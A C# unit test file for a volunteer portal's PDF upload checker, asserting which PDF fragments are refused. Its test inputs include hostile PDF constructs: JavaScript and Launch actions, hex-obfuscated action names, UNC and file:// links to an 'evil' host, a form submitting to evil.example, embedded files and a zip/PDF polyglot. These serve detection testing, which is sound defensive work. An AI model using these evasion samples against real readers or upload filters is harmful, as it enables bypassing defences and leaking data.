using System.Text;
using VolunteerPortal.Platform.Files;
using VolunteerPortal.Platform.Files.Pdf;
using VolunteerPortal.Platform.Forms;

namespace VolunteerPortal.UnitTests.Platform.Files.Pdf;

public sealed class PdfCheckTests
{
    [Theory]
    [InlineData("<< /S /JavaScript /JS (app.alert(1)) >>")]
    [InlineData("<< /S /J#61vaScript >>")]
    [InlineData("<< /S /#4a#61#76#61#53#63#72#69#70#74 >>")]
    [InlineData("<</S/Launch/F(calc.exe)>>")]
    [InlineData("% a comment hides nothing /Launch\n")]
    [InlineData("<< /Type /Annot /Subtype /RichMedia >>")]
    [InlineData("<< /Subtype /U3D /OnInstantiate 5 0 R >>")]
    public void What_acts_by_itself_is_refused(string content) => Assert.Equal(PdfCheck.Active, Check(SampleFiles.Pdf(content)));

    [Theory]
    [InlineData(@"<< /S /GoToR /F (\\\\evil\\x) /D [0 /Fit] >>")]
    [InlineData("<< /S /GoTo#45 /T << /R /C >> >>")]
    [InlineData("<< /S /URI /URI (file://evil/x) >>")]
    [InlineData("<< /S /URI /URI (f\\151le:/x) >>")]
    [InlineData("<< /S /URI /URI <66696C653A2F2F6576696C> >>")]
    [InlineData("<< /S /URI /URI <FEFF00660069006C0065003A> >>")]
    [InlineData("<< /S /URI /URI ( java\\\nscript:app.alert\\(1\\)) >>")]
    [InlineData(@"<< /S /URI /URI (\\\\\\\\evil\\\\x) >>")]
    [InlineData("<< /S /URI /URI 7 0 R >> 7 0 obj (file:x) endobj")]
    [InlineData("<< /Type /Catalog /URI << /Base (file://evil/) >> >>")]
    [InlineData(@"<< /A << /S /Thread /F (\\\\evil\\x.pdf) /D 0 >> >>")]
    [InlineData(@"<< /Subtype /Movie /Movie << /F (\\\\evil\\a.avi) /Poster true >> >>")]
    [InlineData("<< /Subtype /Form /Ref << /F (//evil/x.pdf) /Page 0 >> >>")]
    [InlineData("<< /AF [<< /Type /Filespec /UF <FEFF005C005C006500760069006C> >>] >>")]
    [InlineData("<< /Type /Filespec /FS /URL /F (http://evil.example/x) >>")]
    [InlineData("<< /Type /Filespec /F 7 0 R >> 7 0 obj (C:/x) endobj")]
    [InlineData("3 0 obj << /Type /XObject /F (\\\\\\\\evil\\\\x) /Length 0 >> stream\n\nendstream endobj")]
    public void A_link_out_of_the_document_into_files_and_networks_is_refused(string content) =>
        Assert.Equal(PdfCheck.LeadsOutside, Check(SampleFiles.Pdf(content)));

    [Theory]
    [InlineData("https://example.org/?a=b:c")]
    [InlineData("HTTP://example.org")]
    [InlineData("mailto:office@example.org")]
    [InlineData("tel:19900000001")]
    [InlineData("example.org/a")]
    [InlineData("#page=2")]
    public void An_ordinary_link_is_no_reason(string address) =>
        Assert.Null(Check(SampleFiles.Pdf($"<< /Type /Annot /Subtype /Link /A << /S /URI /URI ({address}) >> >>")));

    [Theory]
    [InlineData("<< /Type /Annot /F 4 >>")]
    [InlineData("<< /Font << /F 7 0 R >> >>")]
    [InlineData("<< /Type /Filespec /F (beside.pdf) >>")]
    [InlineData("BT /F1 12 Tf (text: of a page) Tj ET")]
    public void What_only_looks_like_the_name_of_a_file_is_no_reason(string content) => Assert.Null(Check(SampleFiles.Pdf(content)));

    [Theory]
    [InlineData("<< /S /SubmitForm /F (https://evil.example) >>")]
    [InlineData("<< /S /ImportData /F (a.fdf) >>")]
    [InlineData("<< /AcroForm << /XFA 5 0 R >> >>")]
    [InlineData("<< /AcroForm << /X#46A[(template) 5 0 R] >> >>")]
    public void A_form_that_sends_what_is_typed_is_refused(string content) =>
        Assert.Equal(PdfCheck.SendsData, Check(SampleFiles.Pdf(content)));

    [Theory]
    [InlineData("<< /Names << /EmbeddedFiles 3 0 R >> >>")]
    [InlineData("<< /Type /EmbeddedFile >>")]
    public void A_file_within_the_file_is_refused(string content) => Assert.Equal(PdfCheck.Carries, Check(SampleFiles.Pdf(content)));

    [Fact]
    public void An_encrypted_file_is_refused() => Assert.Equal(PdfCheck.Encrypted, Check(SampleFiles.Pdf("<< /Encrypt 4 0 R >>")));

    [Fact]
    public void Names_that_only_look_alike_are_no_reason() =>
        Assert.Null(
            Check(SampleFiles.Pdf("<< /JavaScripts /Launcher /EncryptMetadata true /A#20B /#zz /XFA null /ZapfDingbats /AAA /GoTo / >>")));

    [Fact]
    public void Nothing_may_follow_the_end()
    {
        Assert.Null(Check([.. SampleFiles.Pdf(), (byte)'\r', (byte)'\n', 0]));
        Assert.Equal(FileKinds.Damaged, Check([.. SampleFiles.Pdf(), .. "<script>"u8]));
        Assert.Equal(FileKinds.Damaged, Check([.. SampleFiles.Pdf(), .. SampleFiles.Zip(("a.txt", "a"))]));
    }

    [Fact]
    public void An_archive_that_ends_like_a_pdf_is_refused()
    {
        // The archive's comment is allowed to hold anything, so it can hold the end of a PDF
        var archive = SampleFiles.Zip(("a.txt", "a"));
        var comment = Encoding.Latin1.GetBytes("\n%%EOF\n");
        archive[^2] = (byte)comment.Length;

        Assert.Equal(FileKinds.Damaged, Check([.. "%PDF-1.7\n"u8, .. archive, .. comment]));
    }

    [Fact]
    public void A_header_that_is_not_at_the_start_is_refused() =>
        Assert.Equal(FileKinds.Mismatch, Check([(byte)'\n', .. SampleFiles.Pdf()]));

    private static Refusal? Check(byte[] content) => FileKindsTests.Check(content, "a.pdf").Refusal;
}
